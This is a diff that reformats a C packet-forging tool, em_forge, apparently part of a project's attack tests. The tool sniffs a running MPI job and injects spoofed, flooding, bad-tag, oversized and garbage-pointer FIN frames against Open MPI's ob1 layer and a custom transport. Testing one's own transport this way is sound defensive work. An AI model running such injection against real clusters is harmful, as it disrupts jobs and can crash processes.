@@ -96,34 +96,34 @@
 #include <time.h>
 #include <unistd.h>
 
-#define EM_ETHERTYPE 0x88B5
-#define FRAME_MAX 9216
-#define SPRAY 80          /* forged frames per round */
-#define SPRAY_BEHIND 8    /* of which this many below the real number */
-#define OB1_TAG_MATCH 65  /* MCA_BTL_TAG_PML (0x40) + 1 */
-#define OB1_TAG_FIN 73    /* MCA_BTL_TAG_PML (0x40) + 9 */
-#define USER_TAG 7        /* the first tag tests/attack/attack_job.c uses */
+#define EM_ETHERTYPE  0x88B5
+#define FRAME_MAX     9216
+#define SPRAY         80 /* forged frames per round */
+#define SPRAY_BEHIND  8  /* of which this many below the real number */
+#define OB1_TAG_MATCH 65 /* MCA_BTL_TAG_PML (0x40) + 1 */
+#define OB1_TAG_FIN   73 /* MCA_BTL_TAG_PML (0x40) + 9 */
+#define USER_TAG      7  /* the first tag tests/attack/attack_job.c uses */
 
 /* Open MPI 4.1 pml/ob1 headers as ob1 puts them in a BTL payload (host
  * byte order, x86-64 natural alignment); our own structs, from the layout
  * of ompi/mca/pml/ob1/pml_ob1_hdr.h. */
 struct ob1_match_hdr {
-    uint8_t type;       /* MCA_PML_OB1_HDR_TYPE_MATCH */
+    uint8_t type; /* MCA_PML_OB1_HDR_TYPE_MATCH */
     uint8_t flags;
-    uint16_t ctx;       /* communicator context id (MPI_COMM_WORLD: 0) */
-    int32_t src;        /* sender's rank */
-    int32_t tag;        /* user tag */
-    uint16_t seq;       /* per-peer message sequence */
+    uint16_t ctx; /* communicator context id (MPI_COMM_WORLD: 0) */
+    int32_t src;  /* sender's rank */
+    int32_t tag;  /* user tag */
+    uint16_t seq; /* per-peer message sequence */
     uint8_t pad[2];
 };
 _Static_assert(sizeof(struct ob1_match_hdr) == 16, "ob1 match header is 16 bytes");
 
 struct ob1_fin_hdr {
-    uint8_t type;       /* MCA_PML_OB1_HDR_TYPE_FIN */
+    uint8_t type; /* MCA_PML_OB1_HDR_TYPE_FIN */
     uint8_t flags;
     uint8_t pad[6];
-    int64_t size;       /* bytes completed, or an error code */
-    uint64_t frag;      /* opal_ptr_t: the completed RDMA fragment, a raw pointer */
+    int64_t size;  /* bytes completed, or an error code */
+    uint64_t frag; /* opal_ptr_t: the completed RDMA fragment, a raw pointer */
 };
 _Static_assert(sizeof(struct ob1_fin_hdr) == 24, "ob1 FIN header is 24 bytes");
 
@@ -133,8 +133,8 @@ static const char *const cls_names[C_COUNT] = {
 };
 
 struct opts {
-    int l2;                 /* 1: raw Ethernet (dpdk), 0: UDP (rudp) */
-    int shim;               /* 1: emd's shim after the Ethernet header */
+    int l2;   /* 1: raw Ethernet (dpdk), 0: UDP (rudp) */
+    int shim; /* 1: emd's shim after the Ethernet header */
     enum cls cls;
     const char *sniff_if;
     const char *inject_ns;
@@ -147,16 +147,16 @@ struct opts {
 
 /* What the sniffer learned from the job's real frames src -> dst. */
 struct tmpl {
-    int have_data;          /* a DATA/PUT frame seen: seq is meaningful */
+    int have_data; /* a DATA/PUT frame seen: seq is meaningful */
     int have_any;
-    em_hdr_t data;          /* the latest DATA/PUT header */
-    em_hdr_t any;           /* the latest header of any type (its ack) */
+    em_hdr_t data; /* the latest DATA/PUT header */
+    em_hdr_t any;  /* the latest header of any type (its ack) */
     uint8_t dst_mac[6];
-    struct sockaddr_in dst_addr;   /* UDP: the victim's address and port */
-    int locked;             /* the real sender's address is known: */
-    uint8_t src_mac[6];     /* frames from any other address (ours, */
-    struct sockaddr_in src_addr;   /* forged) are not templates */
-    uint16_t shim_dst, shim_src;   /* emd mode: the real frame's endpoints */
+    struct sockaddr_in dst_addr; /* UDP: the victim's address and port */
+    int locked;                  /* the real sender's address is known: */
+    uint8_t src_mac[6];          /* frames from any other address (ours, */
+    struct sockaddr_in src_addr; /* forged) are not templates */
+    uint16_t shim_dst, shim_src; /* emd mode: the real frame's endpoints */
 };
 
 static uint64_t rng_state;
@@ -184,8 +184,14 @@ static void usage(FILE *f)
 
 static int parse_args(int argc, char **argv, struct opts *o)
 {
-    *o = (struct opts){ .cls = C_COUNT, .inject_if = "eth0", .src = 0, .dst = 1,
-                        .seconds = 3.0, .interval_us = 5000, .max_frames = 20000, .l2 = -1 };
+    *o = (struct opts){ .cls = C_COUNT,
+                        .inject_if = "eth0",
+                        .src = 0,
+                        .dst = 1,
+                        .seconds = 3.0,
+                        .interval_us = 5000,
+                        .max_frames = 20000,
+                        .l2 = -1 };
     for (int i = 1; i < argc; i++) {
         const char *a = argv[i];
         if (!strcmp(a, "-h") || !strcmp(a, "--help")) {
@@ -245,7 +251,8 @@ static int open_sniffer(const char *ifname)
         perror("em_forge: packet socket (root needed)");
         return -1;
     }
-    struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
+    struct sockaddr_ll sll = { .sll_family = AF_PACKET,
+                               .sll_protocol = htons(ETH_P_ALL),
                                .sll_ifindex = (int)if_nametoindex(ifname) };
     if (sll.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0) {
         fprintf(stderr, "em_forge: cannot sniff on %s: %s\n", ifname, strerror(errno));
@@ -278,9 +285,11 @@ static const uint8_t *em_frame_of(const uint8_t *f, size_t n, int l2, size_t *em
         return NULL;
     struct udphdr uh;
     memcpy(&uh, f + 14 + ihl, sizeof uh);
-    *dst = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = uh.dest,
+    *dst = (struct sockaddr_in){ .sin_family = AF_INET,
+                                 .sin_port = uh.dest,
                                  .sin_addr.s_addr = ip.daddr };
-    *src = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = uh.source,
+    *src = (struct sockaddr_in){ .sin_family = AF_INET,
+                                 .sin_port = uh.source,
                                  .sin_addr.s_addr = ip.saddr };
     *em_len = n - 14 - ihl - sizeof uh;
     return f + 14 + ihl + sizeof uh;
@@ -308,8 +317,7 @@ static void sniff(int fd, const struct opts *o, struct tmpl *t)
             em_len = sh.len;
         }
         em_hdr_t h;
-        if (!em || em_hdr_decode(em, em_len, &h) != EM_DEC_OK || h.src != o->src ||
-            h.dst != o->dst)
+        if (!em || em_hdr_decode(em, em_len, &h) != EM_DEC_OK || h.src != o->src || h.dst != o->dst)
             continue;
         /* the first frame comes before any injection: its sender is the
          * real rank; our own forged frames pass this port too, skip them */
@@ -341,9 +349,9 @@ static void sniff(int fd, const struct opts *o, struct tmpl *t)
 struct injector {
     int l2;
     int shim;
-    int fd;                 /* L2: packet socket; UDP: datagram socket */
+    int fd; /* L2: packet socket; UDP: datagram socket */
     int ifindex;
-    uint8_t mac[6];         /* the forger node's own MAC */
+    uint8_t mac[6]; /* the forger node's own MAC */
 };
 
 static int open_injector(const struct opts *o, struct injector *in)
@@ -361,7 +369,8 @@ static int open_injector(const struct opts *o, struct injector *in)
         fprintf(stderr, "em_forge: no interface %s in %s\n", o->inject_if, o->inject_ns);
         return -1;
     }
-    in->fd = o->l2 ? socket(AF_PACKET, SOCK_RAW, htons(EM_ETHERTYPE)) : socket(AF_INET, SOCK_DGRAM, 0);
+    in->fd = o->l2 ? socket(AF_PACKET, SOCK_RAW, htons(EM_ETHERTYPE))
+                   : socket(AF_INET, SOCK_DGRAM, 0);
     if (in->fd < 0) {
         perror("em_forge: injecting socket");
         return -1;
@@ -399,15 +408,16 @@ static int inject(struct injector *in, const struct tmpl *t, const uint8_t *em, 
     if (fresh_src) {
         uint64_t r = rnd();
         memcpy(f + 6, &r, 6);
-        f[6] = (uint8_t)((f[6] & 0xfc) | 0x02);   /* unicast, locally administered */
+        f[6] = (uint8_t)((f[6] & 0xfc) | 0x02); /* unicast, locally administered */
     } else {
         memcpy(f + 6, in->mac, 6);
     }
     f[12] = EM_ETHERTYPE >> 8;
     f[13] = EM_ETHERTYPE & 0xff;
     if (in->shim) { /* the claimed endpoints, the frame's own source MAC */
-        emd_shim_t sh = { .cls = EMD_CLS_DATA, .len = (uint16_t)len, .dst = t->shim_dst,
-                          .src = t->shim_src };
+        emd_shim_t sh = {
+            .cls = EMD_CLS_DATA, .len = (uint16_t)len, .dst = t->shim_dst, .src = t->shim_src
+        };
         memcpy(sh.src_mac, f + 6, 6);
         emd_wire_encode(f + 14, &sh);
     }
@@ -416,7 +426,8 @@ static int inject(struct injector *in, const struct tmpl *t, const uint8_t *em, 
         memset(f + n, 0, 60 - n);
         n = 60;
     }
-    struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_ifindex = in->ifindex,
+    struct sockaddr_ll sll = { .sll_family = AF_PACKET,
+                               .sll_ifindex = in->ifindex,
                                .sll_halen = 6 };
     memcpy(sll.sll_addr, t->dst_mac, 6);
     ssize_t r = sendto(in->fd, f, n, MSG_DONTWAIT, (struct sockaddr *)&sll, sizeof sll);
@@ -429,7 +440,7 @@ static int inject(struct injector *in, const struct tmpl *t, const uint8_t *em, 
  * right key, sequence number base + k - SPRAY_BEHIND. */
 static em_hdr_t data_frame(const struct tmpl *t, unsigned k, uint8_t tag, uint16_t len)
 {
-    em_hdr_t h = t->data;               /* the key and every field we do not set */
+    em_hdr_t h = t->data; /* the key and every field we do not set */
     h.type = EM_PT_DATA;
     h.flags = 0;
     h.tag = tag;
@@ -453,42 +464,46 @@ static size_t forge(enum cls c, const struct tmpl *t, unsigned k, uint8_t *out)
         uint64_t r = rnd();
         memcpy(body + i, &r, 8);
     }
-    struct ob1_match_hdr mh = { .type = OB1_TAG_MATCH, .ctx = 0, .src = (int32_t)t->data.src,
-                                .tag = USER_TAG, .seq = (uint16_t)rnd() };
+    struct ob1_match_hdr mh = { .type = OB1_TAG_MATCH,
+                                .ctx = 0,
+                                .src = (int32_t)t->data.src,
+                                .tag = USER_TAG,
+                                .seq = (uint16_t)rnd() };
     memcpy(body, &mh, sizeof mh);
     em_hdr_t h;
     switch (c) {
-    case C_BADKEY:      /* a stranger's guess: any key but the job's */
+    case C_BADKEY: /* a stranger's guess: any key but the job's */
         h = data_frame(t, k, OB1_TAG_MATCH, blen);
         h.job_key ^= (__typeof__(h.job_key))(rnd() | 1);
         break;
     case C_SPOOF:
-    case C_FLOOD:       /* right key, claimed rank, forger's address(es) */
+    case C_FLOOD: /* right key, claimed rank, forger's address(es) */
         h = data_frame(t, k, OB1_TAG_MATCH, blen);
         break;
-    case C_TAG255:      /* one past Open MPI's active-message table */
+    case C_TAG255: /* one past Open MPI's active-message table */
         h = data_frame(t, k, 255, blen);
         break;
-    case C_FIN: {       /* ob1 FIN whose fragment pointer is garbage */
-        struct ob1_fin_hdr fh = { .type = OB1_TAG_FIN, .size = 320 * 1024,
+    case C_FIN: { /* ob1 FIN whose fragment pointer is garbage */
+        struct ob1_fin_hdr fh = { .type = OB1_TAG_FIN,
+                                  .size = 320 * 1024,
                                   .frag = 0x0000414141414140ull + (k << 4) };
         memcpy(body, &fh, sizeof fh);
         blen = sizeof fh;
         h = data_frame(t, k, OB1_TAG_FIN, blen);
         break;
     }
-    case C_EMDFLOOD:    /* the real flow, already delivered: the daemon ACKs it */
+    case C_EMDFLOOD: /* the real flow, already delivered: the daemon ACKs it */
         h = data_frame(t, k, OB1_TAG_MATCH, blen);
         h.seq = t->data.seq - 1 - (k % 16);
         h.msg_id = t->data.msg_id;
         break;
-    case C_HUGE:        /* first of 65535 fragments: ~65535 x 1 KiB claimed */
+    case C_HUGE: /* first of 65535 fragments: ~65535 x 1 KiB claimed */
         blen = sizeof body;
         h = data_frame(t, k, OB1_TAG_MATCH, blen);
         h.frag_cnt = 65535;
         h.msg_len = 65535u * blen;
         break;
-    case C_ACK:         /* ACK, SACK (all ones) and NACK around the real ACK */
+    case C_ACK: /* ACK, SACK (all ones) and NACK around the real ACK */
     default:
         h = t->any;
         h.type = (k % 3 == 2) ? EM_PT_NACK : EM_PT_ACK;
@@ -521,18 +536,20 @@ int main(int argc, char **argv)
     }
     if (getrandom(&rng_state, sizeof rng_state, 0) != sizeof rng_state || !rng_state)
         rng_state = 0x9E3779B97F4A7C15ull ^ (uint64_t)getpid();
-    int sfd = open_sniffer(o.sniff_if);     /* in the current (switch) namespace */
+    int sfd = open_sniffer(o.sniff_if); /* in the current (switch) namespace */
     struct injector in;
     if (sfd < 0 || open_injector(&o, &in) < 0)
         return 1;
     struct tmpl t;
     memset(&t, 0, sizeof t);
     double t0 = now_s();
-    while (!(t.have_data && t.have_any)) {   /* one real frame of the job */
+    while (!(t.have_data && t.have_any)) { /* one real frame of the job */
         sniff(sfd, &o, &t);
         if (now_s() - t0 > 5.0) {
-            fprintf(stderr, "em_forge: no frame from rank %u to rank %u seen on %s in 5 s "
-                            "(is the job running on that link?)\n", o.src, o.dst, o.sniff_if);
+            fprintf(stderr,
+                    "em_forge: no frame from rank %u to rank %u seen on %s in 5 s "
+                    "(is the job running on that link?)\n",
+                    o.src, o.dst, o.sniff_if);
             return 3;
         }
         usleep(1000);
@@ -541,7 +558,7 @@ int main(int argc, char **argv)
     uint8_t frame[FRAME_MAX];
     t0 = now_s();
     while (now_s() - t0 < o.seconds && sent < o.max_frames) {
-        sniff(sfd, &o, &t);                   /* stay near the real numbers */
+        sniff(sfd, &o, &t); /* stay near the real numbers */
         for (unsigned k = 0; k < SPRAY && sent < o.max_frames; k++) {
             size_t n = forge(o.cls, &t, k, frame);
             if (inject(&in, &t, frame, n, o.cls == C_FLOOD || o.cls == C_EMDFLOOD) == 0)
@@ -553,8 +570,8 @@ int main(int argc, char **argv)
         usleep(o.interval_us);
     }
     printf("em_forge: class %s: %lu frames sent in %lu rounds (%lu refused by the socket; "
-           "last real seq %lu, ack %lu, key 0x%llx)\n", cls_names[o.cls], sent, rounds, failed,
-           (unsigned long)t.data.seq, (unsigned long)t.any.ack,
-           (unsigned long long)t.data.job_key);
+           "last real seq %lu, ack %lu, key 0x%llx)\n",
+           cls_names[o.cls], sent, rounds, failed, (unsigned long)t.data.seq,
+           (unsigned long)t.any.ack, (unsigned long long)t.data.job_key);
     return sent ? 0 : 1;
 }
